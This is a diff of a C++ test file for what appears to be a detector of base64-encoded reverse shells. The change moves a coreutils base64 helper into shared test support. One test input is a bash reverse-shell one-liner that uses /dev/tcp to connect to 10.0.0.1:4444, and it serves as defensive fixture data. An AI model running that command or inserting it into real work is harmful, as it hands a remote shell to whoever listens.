@@ -7,28 +7,12 @@
 #include "encoded_shell.h"
 #include "support/test_support.h"
 
+using bulwark::test::coreutilsBase64;
 using bulwark::vm::decodeBase64;
 using bulwark::vm::findEncodedReverseShell;
 using bulwark::vm::reverseShellIndicator;
 
-namespace {
-
-// `printf %s TEXT | base64 -w0`, via coreutils.
-std::string coreutilsBase64(const std::string& text) {
-  bulwark::test::TempDir dir;
-  std::string path = (dir / "payload").string();
-  bulwark::test::writeFile(path, text);
-  FILE* p = popen(("base64 -w0 " + path).c_str(), "r");
-  REQUIRE(p != nullptr);
-  std::string out;
-  char buf[4096];
-  for (size_t n; (n = std::fread(buf, 1, sizeof buf, p)) > 0;)
-    out.append(buf, n);
-  REQUIRE(pclose(p) == 0);
-  return out;
-}
-
-}  // namespace
+namespace {}  // namespace
 
 TEST_CASE("base64 decodes like coreutils, with and without padding", "[sdkevents][vm]") {
   for (std::string text : {"a", "ab", "abc", "abcd", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}) {
